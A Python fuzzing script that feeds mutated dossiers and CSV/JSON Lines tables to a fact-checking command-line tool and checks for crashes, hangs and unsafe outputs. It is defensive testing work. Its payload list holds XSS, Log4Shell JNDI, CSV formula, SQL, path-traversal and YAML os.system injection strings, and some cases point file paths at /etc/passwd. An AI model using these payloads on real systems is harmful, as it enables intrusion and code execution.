"""A seeded fuzzer for claimgraph's command line: hostile dossiers and tables through every command.

Each case is one mutated input, made from the founding dossier (and its
article), or from CSV / JSON Lines tables exported from it, by one of these
mutators (chosen by the seed):

* dossier: ``byte-flip`` (raw bytes changed, inserted, removed), ``type-swap``
  (a field's value replaced by a number, list, mapping, date, null, NaN, ...),
  ``control-char`` (a C0/C1 control, NUL, a lone surrogate escape or a bidi
  control in a text field), ``huge`` (a long text, quote or list), ``deep``
  (nested lists and mappings), ``injection`` (HTML, template, formula, path,
  SQL and YAML payloads in a text field), ``structure`` (an entry or required
  field dropped or repeated, a section of the wrong type), ``text-file`` (a
  document's local copy pointed at a link, a folder, a FIFO or outside);
* tables: ``csv`` and ``jsonl`` (cells and values swapped for the payloads
  above, bytes flipped, quotes broken, invalid UTF-8 and JSON).

Every case runs in a fresh folder that also holds output files left by an
"earlier" run. A dossier case runs ``check``; when check accepts it, about a
dozen commands follow in-process through click's ``CliRunner`` (``show``,
``brief -o``, ``disputes``, ``candidates``, ``audit``, ``export`` in json,
yaml, graphml, gexf and claimreview, ``tables -o``, ``record`` into a fresh
store); when check refuses it, the commands that write files run anyway, to
show they write nothing. A table case runs ``import -o`` and ``import --ledger``
and then ``check`` and ``export`` on what was imported. Every
``--subprocess-every`` th case also runs a few commands as real processes.

For every run it asserts: exit code 0, 1 or 2; no traceback (an exception that
is not click's own exit); the run within ``--time-limit`` seconds; when the
command failed, no file in the folder changed; when it succeeded, its JSON
outputs parse as strict JSON (no NaN), its GraphML and GEXF as XML 1.0, its
YAML as YAML, its CSV cells carry no unguarded formula, its HTML has no
``<script``. It prints one summary line, and one line per failure (command,
mutator, what went wrong) when there are any; ``--keep DIR`` saves failing cases.

Run from the repository root:

    python3 benchmarks/fuzz.py --cases 2000 --seed 1
    python3 benchmarks/fuzz.py --cases 200 --seed 7 --keep /tmp/fuzz-failures
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import datetime as dt
import faulthandler
import hashlib
import io
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable, Iterator
from pathlib import Path

import attrs
import yaml

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))  # run from a checkout

from click.testing import CliRunner  # noqa: E402

from claimgraph.cli import cli  # noqa: E402

__all__ = ["Failure", "Summary", "fuzz", "main", "make_case"]

FOUNDING = ROOT / "claims" / "rafah-2026-02-04.yaml"
ARTICLE = ROOT / "claims" / "rafah-2026-02-04.txt"

#: Payloads an attacker would try in any text field.
INJECTIONS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7*7 }}{% for x in range(10**9) %}{% endfor %}",
    "${jndi:ldap://x/a}",
    "=cmd|' /C calc'!A0",
    ' =HYPERLINK("http://x")',
    "\u00a0=1+1",
    "\uff1dSUM(A1)",
    "\ufeff@SUM(A1)",
    "-2+3",
    "../../../../etc/passwd",
    "'; DROP TABLE entries; --",
    "]]><!-- --><x/>",
    "&lt;&amp;&#0;&#x1;",
    "\u202egnp.exe",
    "a; b; c",
    "C:\\new\\table;x",
    "!!python/object/apply:os.system ['echo pwned']",
    "*alias",
    "%s%n%x",
)
#: Characters no text should carry unnoticed into an output.
CONTROLS = ("\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x9b", "\u2028", "\ufffe")
_TYPE_VALUES: tuple[object, ...] = (
    42,
    -657343,
    3.5,
    True,
    None,
    [],
    ["a"],
    {"a": 1},
    dt.date(2026, 1, 1),
    dt.datetime(2026, 1, 1, 12, 0),
    "",
    float("nan"),
    float("inf"),
    "2026-W06-3",
    "20260204",
    "2026-02-30",
    10**40,
)
#: Exit codes a command may end with: done, refused (a message), usage error.
EXIT_CODES = {0, 1, 2}


@attrs.frozen
class Failure:
    """One run that broke an invariant."""

    case: int
    mutator: str
    command: str
    what: str

    def __str__(self) -> str:
        return f"case {self.case} ({self.mutator}): {self.command}: {self.what}"


@attrs.define
class Summary:
    """Counts over a fuzzing session."""

    cases: int = 0
    runs: int = 0
    subprocess_runs: int = 0
    tracebacks: int = 0
    hangs: int = 0
    bad_exit_codes: int = 0
    invalid_outputs: int = 0
    files_changed_on_error: int = 0
    slowest: float = 0.0
    slowest_command: str = ""
    failures: list[Failure] = attrs.field(factory=list)

    @property
    def ok(self) -> bool:
        """True when no run broke an invariant."""
        return not self.failures

    def line(self, seed: int, elapsed: float) -> str:
        """The one-line summary."""
        return (
            f"fuzz: seed {seed}, {self.cases} cases, {self.runs} runs ({self.subprocess_runs} as subprocesses): "
            f"{self.tracebacks} tracebacks, {self.hangs} hangs, {self.bad_exit_codes} bad exit codes, "
            f"{self.invalid_outputs} invalid outputs, {self.files_changed_on_error} files changed on error; "
            f"slowest run {self.slowest:.2f} s ({self.slowest_command}); {elapsed:.0f} s in all"
        )


# Inputs and their mutations


def _base_dossier() -> dict:
    # safe_load keeps dates as dates, as the dossier reader does.
    return yaml.safe_load(FOUNDING.read_text(encoding="utf-8"))


def _dump(data: object) -> str:
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=100)


def _entries(data: dict) -> list[tuple[str, int, dict]]:
    return [
        (section, index, entry)
        for section in ("sources", "documents", "claims", "relations", "questions", "reviews")
        for index, entry in enumerate(data.get(section) or [])
        if isinstance(entry, dict)
    ]


def _pick_field(rng: random.Random, data: dict, text_only: bool = False) -> tuple[dict, str] | None:
    """A random (mapping, key) in some entry, descending into a claim's proposition now and then."""
    entries = _entries(data)
    rng.shuffle(entries)
    for _section, _index, entry in entries:
        target = entry
        if "proposition" in entry and isinstance(entry["proposition"], dict) and rng.random() < 0.3:
            target = entry["proposition"]
        keys = [k for k, v in target.items() if isinstance(v, str)] if text_only else list(target)
        if keys:
            return target, rng.choice(keys)
    return None


def _nested(rng: random.Random, depth: int) -> object:
    value: object = "x"
    for _ in range(depth):
        value = [value] if rng.random() < 0.5 else {"k": value}
    return value


def _mutate_structure(rng: random.Random, data: dict) -> None:
    entries = _entries(data)
    section, index, entry = rng.choice(entries)
    choice = rng.randrange(6)
    if choice == 0:
        entry.pop(rng.choice(list(entry)), None)
    elif choice == 1:
        data[section].append(dict(entry))
    elif choice == 2:
        data[section] = rng.choice(["text", 7, {"a": entry}, None])
    elif choice == 3:
        entry[rng.choice(["unknown_field", "Id", "id "])] = "x"
    elif choice == 4:
        data[section][index] = rng.choice([[entry], "entry", 5])
    else:
        data[rng.choice(["format", "title", "recorded_by", "note"])] = rng.choice(_TYPE_VALUES)


def _text_file_target(rng: random.Random, folder: Path) -> str:
    choice = rng.randrange(7)
    if choice == 0:
        os.mkfifo(folder / "pipe.txt")
        return "pipe.txt"
    if choice == 1:
        (folder / "loop.txt").symlink_to("loop.txt")
        return "loop.txt"
    if choice == 2:
        (folder / "sub").mkdir(exist_ok=True)
        return "sub"
    if choice == 3:
        (folder / "link.txt").symlink_to("/etc/hostname")
        return "link.txt"
    if choice == 4:
        return rng.choice(["../outside.txt", "/etc/passwd", "a\x00b.txt", "missing.txt", ""])
    if choice == 5:
        (folder / "binary.txt").write_bytes(os.urandom(256) + b"\x00")
        return "binary.txt"
    return -657343  # type: ignore[return-value]  # a number where a path belongs


def _dossier_case(rng: random.Random, mutator: str, folder: Path) -> None:
    """Write a mutated founding dossier (and its article) into ``folder``."""
    shutil.copy(ARTICLE, folder / ARTICLE.name)
    data = _base_dossier()
    text: str | None = None
    if mutator == "type-swap":
        for _ in range(rng.randint(1, 3)):
            picked = _pick_field(rng, data)
            if picked:
                target, key = picked
                target[key] = rng.choice(_TYPE_VALUES)
    elif mutator == "control-char":
        picked = _pick_field(rng, data, text_only=True)
        if picked:
            target, key = picked
            value = target[key]
            at = rng.randrange(len(value) + 1)
            target[key] = value[:at] + rng.choice(CONTROLS) + value[at:]
        if rng.random() < 0.2:
            text = _dump(data).replace("format: 1", 'format: 1\ntitle: "\\ud800 lone surrogate"', 1)
    elif mutator == "huge":
        picked = _pick_field(rng, data, text_only=True)
        if picked:
            target, key = picked
            size = rng.choice([5_000, 50_000, 300_000])
            target[key] = rng.choice(["A", "word ", "é", "-"]) * size
        if rng.random() < 0.3:
            claims = data.get("claims") or []
            data["claims"] = claims + [dict(claims[0], id=f"copy-{n}") for n in range(rng.choice([200, 2_000]))]
    elif mutator == "deep":
        picked = _pick_field(rng, data)
        if picked:
            target, key = picked
            target[key] = "DEEP-VALUE-HERE"
            depth = rng.choice([20, 120, 400, 5_000])
            # Written as flow-style text: building and dumping it as objects would overflow here first.
            opening, closing = rng.choice([("[", "]"), ("{a: ", "}")])
            text = _dump(data).replace("DEEP-VALUE-HERE", opening * depth + "x" + closing * depth, 1)
    elif mutator == "injection":
        for _ in range(rng.randint(1, 4)):
            picked = _pick_field(rng, data, text_only=True)
            if picked:
                target, key = picked
                target[key] = rng.choice(INJECTIONS)
    elif mutator == "structure":
        _mutate_structure(rng, data)
    elif mutator == "text-file":
        documents = [d for d in data.get("documents") or [] if isinstance(d, dict)]
        if documents:
            document = rng.choice(documents)
            document["text_file"] = _text_file_target(rng, folder)
            document.pop("sha256", None)
    if text is None:
        text = _dump(data)
    raw = text.encode("utf-8")
    if mutator == "byte-flip":
        flipped = bytearray(raw)
        for _ in range(rng.randint(1, 8)):
            at = rng.randrange(len(flipped))
            action = rng.randrange(3)
            if action == 0:
                flipped[at] = rng.randrange(256)
            elif action == 1:
                flipped.insert(at, rng.choice(b"\x00\t\n\r :-[]{}&*!|>'\"%@`#,\xff\xc3"))
            else:
                del flipped[at]
        raw = bytes(flipped)
    (folder / "dossier.yaml").write_bytes(raw)


def _table_rows(kind: str) -> tuple[list[str], list[list[str]]]:
    text = _TABLES[kind]
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], rows[1:]


_TABLES: dict[str, str] = {}


def _load_tables() -> None:
    if not _TABLES:
        from claimgraph.io import read_ledger
        from claimgraph.render.tables import ledger_tables

        ledger = read_ledger([FOUNDING])
        for name, text in ledger_tables(ledger).items():
            _TABLES[name.removesuffix(".csv")] = text


def _hostile_value(rng: random.Random) -> str:
    choice = rng.randrange(4)
    if choice == 0:
        return rng.choice(INJECTIONS)
    if choice == 1:
        return "x" + rng.choice(CONTROLS) + "y"
    if choice == 2:
        return rng.choice(["", "true", "nan", "inf", "1e400", "-0", "2026-W06-3", "20260204", "a;b;;c", "'=x"])
    return rng.choice(["A", "é"]) * rng.choice([10, 5_000, 100_000])


def _csv_case(rng: random.Random, folder: Path) -> list[str]:
    """Write mutated CSV tables; returns their names."""
    names = []
    for kind in ("sources", "documents", "claims", "relations"):
        header, rows = _table_rows(kind)
        for _ in range(rng.randint(0, 4)):
            if rows:
                row = rng.choice(rows)
                row[rng.randrange(len(row))] = _hostile_value(rng)
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
        raw = buffer.getvalue().encode("utf-8", "surrogatepass")
        if rng.random() < 0.3:
            flipped = bytearray(raw)
            for _ in range(rng.randint(1, 5)):
                flipped[rng.randrange(len(flipped))] = rng.choice(b'"\x00\xff\xc3\n,;')
            raw = bytes(flipped)
        (folder / f"{kind}.csv").write_bytes(raw)
        names.append(f"{kind}.csv")
    return names


def _jsonl_case(rng: random.Random, folder: Path) -> list[str]:
    """Write sources as CSV and mutated claims as JSON Lines; returns their names."""
    (folder / "sources.csv").write_text(_TABLES["sources"], encoding="utf-8")
    (folder / "documents.csv").write_text(_TABLES["documents"], encoding="utf-8")
    header, rows = _table_rows("claims")
    lines = []
    for row in rows:
        record = {k: v for k, v in zip(header, row, strict=True) if v}
        record.pop("proposition_value", None)
        if rng.random() < 0.15:
            key = rng.choice(list(record))
            record[key] = rng.choice([*_TYPE_VALUES[:8], _hostile_value(rng), _nested(rng, rng.choice([5, 300]))])
        try:
            line = json.dumps(record, ensure_ascii=rng.random() < 0.5, default=str)
        except (ValueError, RecursionError):
            line = "{}"
        if rng.random() < 0.05:
            line = rng.choice(['{"id": "\\ud800x", "statement": "s", "said_by": "prcs"}', "[1, 2]", "{", "\xff"])
        lines.append(line)
    raw = "\n".join(lines).encode("utf-8", "surrogateescape")
    (folder / "claims.jsonl").write_bytes(raw)
    return ["sources.csv", "documents.csv", "claims.jsonl"]


DOSSIER_MUTATORS = (
    "byte-flip",
    "type-swap",
    "control-char",
    "huge",
    "deep",
    "injection",
    "structure",
    "text-file",
)
MUTATORS = (*DOSSIER_MUTATORS, "csv", "jsonl")


def make_case(rng: random.Random, folder: Path) -> str:
    """Write one mutated input into ``folder`` (plus earlier outputs to guard); returns the mutator's name."""
    _load_tables()
    mutator = rng.choice(MUTATORS)
    if mutator == "csv":
        _csv_case(rng, folder)
    elif mutator == "jsonl":
        _jsonl_case(rng, folder)
    else:
        _dossier_case(rng, mutator, folder)
    # What an earlier run left: a failed command must not touch any of it.
    for name in ("brief.html", "export.json", "export.yaml", "export.graphml", "export.gexf", "reviews.jsonld"):
        (folder / name).write_text(f"earlier {name}\n", encoding="utf-8")
    (folder / "tables").mkdir()
    (folder / "tables" / "claims.csv").write_text("earlier claims table\n", encoding="utf-8")
    (folder / "imported.yaml").write_text("earlier import\n", encoding="utf-8")
    from claimgraph.store import init_store

    init_store(folder / "fresh.db")  # as `ledger init` leaves it: record and import --ledger add to it
    return mutator


# Running commands and judging their outputs


class _Hang(BaseException):
    """Raised by the alarm when a run exceeds its time limit."""


@contextlib.contextmanager
def _time_limit(seconds: float) -> Iterator[None]:
    def expire(_signum, _frame):
        raise _Hang

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


_SQLITE_SIDECARS = ("-wal", "-shm", "-journal")


def _snapshot(folder: Path) -> dict[str, tuple]:
    state: dict[str, tuple] = {}
    for path in sorted(folder.rglob("*")):
        if path.name.endswith(_SQLITE_SIDECARS):
            continue  # SQLite's own journal files come and go with every connection
        try:
            status = path.lstat()
        except OSError:
            continue
        digest = b""
        if path.is_file() and not path.is_symlink():
            with contextlib.suppress(OSError):
                digest = hashlib.sha256(path.read_bytes()).digest()
        state[str(path.relative_to(folder))] = (status.st_mode, status.st_size, digest)
    return state


def _strict_json(text: str) -> None:
    def refuse(constant: str) -> None:
        raise ValueError(f"{constant} is not JSON")

    json.loads(text, parse_constant=refuse)


def _xml(text: str) -> None:
    ElementTree.fromstring(text.encode("utf-8"))


def _yaml(text: str) -> None:
    yaml.safe_load(text)


def _html(text: str) -> None:
    if "<script" in text.lower():
        raise ValueError("the page holds a <script> element")
    if "</html>" not in text:
        raise ValueError("the page is cut short")


_GUARD_LEAD = " \t\r\n\u00a0\u3000\ufeff\u200b\u200c\u200d\u2060"
_FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"


def _csv_folder(folder: Path) -> None:
    csv.field_size_limit(1 << 30)  # a table may hold a whole document's text in one cell
    for path in sorted(folder.glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                bare = cell.lstrip(_GUARD_LEAD)
                if (bare[:1] in _FORMULA_STARTS and bare) or (cell[:1] in "\t\r" and cell):
                    raise ValueError(f"{path.name}: unguarded formula cell {cell[:40]!r}")


@attrs.frozen
class _Run:
    name: str
    args: tuple[str, ...]
    #: file written on success (relative to the case folder) → its validator; "-" is standard output.
    outputs: tuple[tuple[str, Callable[..., None]], ...] = ()


def _dossier_runs() -> tuple[list[_Run], list[_Run]]:
    """(runs after check accepts, runs that write files: also made when check refuses)."""
    d = "dossier.yaml"
    writers = [
        _Run("brief -o", ("brief", d, "-o", "brief.html"), (("brief.html", _html),)),
        _Run("export json -o", ("export", d, "-o", "export.json"), (("export.json", _strict_json),)),
        _Run(
            "export graphml -o",
            ("export", d, "--format", "graphml", "-o", "export.graphml"),
            (("export.graphml", _xml),),
        ),
        _Run("tables -o", ("tables", d, "-o", "tables"), (("tables", _csv_folder),)),
    ]
    readers = [
        _Run("show", ("show", d)),
        _Run("disputes json", ("disputes", d, "--format", "json"), (("-", _strict_json),)),
        _Run("candidates json", ("candidates", d, "--format", "json"), (("-", _strict_json),)),
        _Run("audit json", ("audit", d, "--format", "json"), (("-", _strict_json),)),
        _Run("export yaml -o", ("export", d, "--format", "yaml", "-o", "export.yaml"), (("export.yaml", _yaml),)),
        _Run("export gexf -o", ("export", d, "--format", "gexf", "-o", "export.gexf"), (("export.gexf", _xml),)),
        _Run(
            "export claimreview -o",
            ("export", d, "--format", "claimreview", "-o", "reviews.jsonld"),
            (("reviews.jsonld", _strict_json),),
        ),
        _Run("record", ("record", d, "--ledger", "fresh.db", "--author", "fuzz")),
    ]
    return writers + readers, writers


def _table_runs(names: list[str]) -> list[_Run]:
    return [
        _Run("import -o", ("import", *names, "-o", "imported.yaml"), (("imported.yaml", _yaml),)),
        _Run("import --partial -o", ("import", *names, "--partial", "-o", "partial.yaml")),
        _Run("import --ledger", ("import", *names, "--ledger", "fresh.db", "--author", "fuzz")),
    ]


class _Session:
    """Runs commands for cases and keeps the score."""

    def __init__(self, time_limit: float, keep: Path | None) -> None:
        self.summary = Summary()
        self.time_limit = time_limit
        self.keep = keep
        self.runner = CliRunner()

    def _fail(self, case: int, mutator: str, command: str, what: str, counter: str, folder: Path) -> None:
        setattr(self.summary, counter, getattr(self.summary, counter) + 1)
        self.summary.failures.append(Failure(case, mutator, command, what))
        if self.keep is not None:
            saved = self.keep / f"case-{case}"
            if not saved.exists():
                shutil.copytree(folder, saved, symlinks=True, ignore=_special_files)

    def _timed(self, run: _Run, seconds: float) -> tuple[float, object]:
        # ``os.chdir`` into the case folder: relative paths keep messages and outputs inside it.
        started = time.perf_counter()
        try:
            with _time_limit(seconds):
                result = self.runner.invoke(cli, list(run.args), catch_exceptions=True)
        except _Hang:
            return time.perf_counter() - started, None
        return time.perf_counter() - started, result

    def run(self, case: int, mutator: str, folder: Path, run: _Run) -> int | None:
        """Run one command in-process and judge it; returns its exit code (None for a hang)."""
        before = _snapshot(folder)
        elapsed, result = self._timed(run, self.time_limit)
        self.summary.runs += 1
        if elapsed > self.summary.slowest:
            self.summary.slowest, self.summary.slowest_command = elapsed, f"case {case} {mutator}: {run.name}"
        if result is None:
            self._fail(case, mutator, run.name, f"no answer after {self.time_limit:.0f} s", "hangs", folder)
            return None
        output = result.output  # type: ignore[attr-defined]
        exception = result.exception  # type: ignore[attr-defined]
        code = result.exit_code  # type: ignore[attr-defined]
        if exception is not None and not isinstance(exception, SystemExit):
            where = _where(exception)
            self._fail(
                case,
                mutator,
                run.name,
                f"{type(exception).__name__}: {str(exception)[:120]} ({where})",
                "tracebacks",
                folder,
            )
            return code
        if "Traceback (most recent call last)" in output:
            self._fail(case, mutator, run.name, "a traceback in the output", "tracebacks", folder)
        if code not in EXIT_CODES:
            self._fail(case, mutator, run.name, f"exit code {code}", "bad_exit_codes", folder)
        if code != 0:
            after = _snapshot(folder)
            changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
            if changed:
                self._fail(
                    case,
                    mutator,
                    run.name,
                    f"exit {code} but changed {', '.join(changed[:5])}",
                    "files_changed_on_error",
                    folder,
                )
            return code
        for name, validate in run.outputs:
            try:
                if name == "-":
                    validate(result.stdout)  # type: ignore[attr-defined]
                elif validate is _csv_folder:
                    validate(folder / name)
                else:
                    validate((folder / name).read_text(encoding="utf-8"))
            except Exception as exc:
                self._fail(
                    case, mutator, run.name, f"invalid output {name}: {str(exc)[:120]}", "invalid_outputs", folder
                )
        return code

    def run_subprocess(self, case: int, mutator: str, folder: Path, args: tuple[str, ...]) -> None:
        """Run one command as its own process: real exit code, real stderr."""
        name = f"subprocess {args[0]}"
        before = _snapshot(folder)
        started = time.perf_counter()
        try:
            done = subprocess.run(
                [sys.executable, "-m", "claimgraph", *args],
                cwd=folder,
                capture_output=True,
                timeout=self.time_limit + 5,
                env={**os.environ, "PYTHONPATH": str(ROOT)},
                check=False,
            )
        except subprocess.TimeoutExpired:
            self.summary.subprocess_runs += 1
            self._fail(case, mutator, name, "no answer in time", "hangs", folder)
            return
        self.summary.subprocess_runs += 1
        self.summary.runs += 1
        elapsed = time.perf_counter() - started
        if elapsed > self.summary.slowest:
            self.summary.slowest, self.summary.slowest_command = elapsed, f"case {case} {mutator}: {name}"
        stderr = done.stderr.decode("utf-8", "replace")
        if "Traceback (most recent call last)" in stderr:
            last = stderr.strip().splitlines()[-1][:160]
            self._fail(case, mutator, name, f"traceback: {last}", "tracebacks", folder)
        if done.returncode not in EXIT_CODES:
            self._fail(case, mutator, name, f"exit code {done.returncode}", "bad_exit_codes", folder)
        if done.returncode != 0 and _snapshot(folder) != before:
            self._fail(case, mutator, name, "failed but changed files", "files_changed_on_error", folder)


def _special_files(folder: str, names: list[str]) -> list[str]:
    """FIFOs and other special files are left out of a saved case (copying a FIFO would wait for a writer)."""
    return [n for n in names if not (os.path.isdir(os.path.join(folder, n)) or os.path.isfile(os.path.join(folder, n)))]


def _where(exception: BaseException) -> str:
    frames = []
    trace = exception.__traceback__
    while trace is not None:
        frames.append(trace)
        trace = trace.tb_next
    for frame in reversed(frames):
        filename = frame.tb_frame.f_code.co_filename
        if "claimgraph" in filename:
            return f"{Path(filename).name}:{frame.tb_lineno}"
    return "outside claimgraph"


def _run_case(session: _Session, case: int, rng: random.Random, folder: Path, subprocesses: bool) -> None:
    mutator = make_case(rng, folder)
    session.summary.cases += 1
    if mutator in ("csv", "jsonl"):
        names = sorted(p.name for p in folder.iterdir() if p.suffix in (".csv", ".jsonl"))
        for run in _table_runs(names):
            session.run(case, mutator, folder, run)
        if (folder / "partial.yaml").exists():
            session.run(case, mutator, folder, _Run("check imported", ("check", "partial.yaml")))
            session.run(
                case,
                mutator,
                folder,
                _Run(
                    "export imported", ("export", "partial.yaml", "-o", "export.json"), (("export.json", _strict_json),)
                ),
            )
        if subprocesses:
            session.run_subprocess(case, mutator, folder, ("import", *names, "-o", "sub.yaml"))
        return
    all_runs, writers = _dossier_runs()
    code = session.run(case, mutator, folder, _Run("check", ("check", "dossier.yaml")))
    for run in all_runs if code == 0 else writers:
        session.run(case, mutator, folder, run)
    if subprocesses:
        for args in (("check", "dossier.yaml"), ("export", "dossier.yaml", "--format", "graphml", "-o", "sub.graphml")):
            session.run_subprocess(case, mutator, folder, args)


def fuzz(
    cases: int,
    seed: int,
    *,
    time_limit: float = 10.0,
    subprocess_every: int = 50,
    keep: Path | None = None,
    progress: Callable[[int], None] | None = None,
    only: int | None = None,
) -> Summary:
    """Run ``cases`` mutated inputs through the command line and count what broke.

    Args:
        cases: how many inputs to make.
        seed: the random seed; the same seed makes the same cases.
        time_limit: seconds one run may take before it counts as a hang.
        subprocess_every: also run a few commands as real processes every this many cases (0: never).
        keep: copy each failing case's folder here.
        progress: called with the number of each case as it starts.
        only: run just this case (the same input as in the full run), to reproduce it.

    Returns:
        The counts and the failures.
    """
    rng = random.Random(seed)
    summary = Summary()
    with tempfile.TemporaryDirectory(prefix="claimgraph-fuzz-") as scratch:
        _warm_up(Path(scratch) / "warm-up", time_limit)
        for case in range(cases):
            if progress is not None:
                progress(case)
            folder = Path(scratch) / f"case-{case}"
            folder.mkdir()
            bits = rng.getrandbits(64)
            if only is not None and case != only:
                folder.rmdir()
                continue
            subprocesses = bool(subprocess_every) and case % subprocess_every == 0
            try:
                _merge(summary, _isolated(case, bits, folder, time_limit, keep, subprocesses))
            finally:
                _remove(folder)
    return summary


def _warm_up(folder: Path, time_limit: float) -> None:
    """Run every command once on the founding dossier, so each forked case starts with modules and templates loaded."""
    folder.mkdir()
    shutil.copy(FOUNDING, folder / "dossier.yaml")
    shutil.copy(ARTICLE, folder / ARTICLE.name)
    _load_tables()
    for kind, text in _TABLES.items():
        (folder / f"{kind}.csv").write_text(text, encoding="utf-8")
    from claimgraph.store import init_store

    init_store(folder / "fresh.db")
    session = _Session(time_limit, None)
    home = Path.cwd()
    os.chdir(folder)
    try:
        for run in [*_dossier_runs()[0], *_table_runs(["sources.csv", "documents.csv", "claims.csv"])]:
            session.run(-1, "none", folder, run)
    finally:
        os.chdir(home)
    if session.summary.failures:
        raise RuntimeError(f"the founding dossier itself fails: {session.summary.failures[0]}")


def _isolated(case: int, bits: int, folder: Path, time_limit: float, keep: Path | None, subprocesses: bool) -> Summary:
    """Run one case in a forked child, so that a crash of the interpreter itself is a finding, not the end."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: run the case, send back its score, and leave without cleaning up the parent's state
        code = 0
        try:
            os.close(reading)
            # A crash is reported by the parent in one line; the child's own dump would only be noise.
            faulthandler.disable()
            os.chdir(folder)
            session = _Session(time_limit, keep)
            _run_case(session, case, random.Random(bits), folder, subprocesses)
            with os.fdopen(writing, "w", encoding="utf-8") as stream:
                json.dump(attrs.asdict(session.summary), stream)
        except BaseException:
            code = 3
        finally:
            os._exit(code)
    os.close(writing)
    with os.fdopen(reading, encoding="utf-8") as stream:
        sent = stream.read()
    _, status = os.waitpid(pid, 0)
    if sent:
        data = json.loads(sent)
        data["failures"] = [Failure(**f) for f in data["failures"]]
        return Summary(**data)
    how = (
        f"killed by signal {os.WTERMSIG(status)}"
        if os.WIFSIGNALED(status)
        else f"exit {os.waitstatus_to_exitcode(status)}"
    )
    # Make the case again to name its mutator (and keep it): the child could not say.
    again = keep / f"case-{case}-as-made" if keep is not None else Path(tempfile.mkdtemp(dir=folder.parent))
    again.mkdir(parents=True, exist_ok=True)
    mutator = make_case(random.Random(bits), again)
    return Summary(
        cases=1, tracebacks=1, failures=[Failure(case, mutator, "(the whole case)", f"the interpreter died: {how}")]
    )


def _merge(total: Summary, part: Summary) -> None:
    for name in ("cases", "runs", "subprocess_runs", "tracebacks", "hangs", "bad_exit_codes", "invalid_outputs"):
        setattr(total, name, getattr(total, name) + getattr(part, name))
    total.files_changed_on_error += part.files_changed_on_error
    if part.slowest > total.slowest:
        total.slowest, total.slowest_command = part.slowest, part.slowest_command
    total.failures.extend(part.failures)


def _remove(folder: Path) -> None:
    # A FIFO or a link loop in the case folder is no obstacle to removing it.
    shutil.rmtree(folder, ignore_errors=True)


def main(argv: list[str] | None = None) -> int:
    """Command line: ``fuzz.py --cases N --seed S``; exit 1 when any run broke an invariant."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--cases", type=int, default=500, help="how many mutated inputs (default 500)")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    parser.add_argument("--time-limit", type=float, default=10.0, help="seconds per run before it is a hang")
    parser.add_argument("--subprocess-every", type=int, default=50, help="real processes every N cases (0: never)")
    parser.add_argument("--only", type=int, metavar="CASE", help="run just this case of the seed, to reproduce it")
    parser.add_argument("--keep", type=Path, help="copy failing cases into this folder")
    parser.add_argument("--quiet", action="store_true", help="only the summary line")
    options = parser.parse_args(argv)
    started = time.perf_counter()
    summary = fuzz(
        options.cases,
        options.seed,
        time_limit=options.time_limit,
        subprocess_every=options.subprocess_every,
        keep=options.keep.resolve() if options.keep else None,
        only=options.only,
    )
    if not options.quiet:
        for failure in summary.failures:
            print(failure, file=sys.stderr)
    print(summary.line(options.seed, time.perf_counter() - started))
    return 0 if summary.ok else 1


if __name__ == "__main__":
    sys.exit(main())
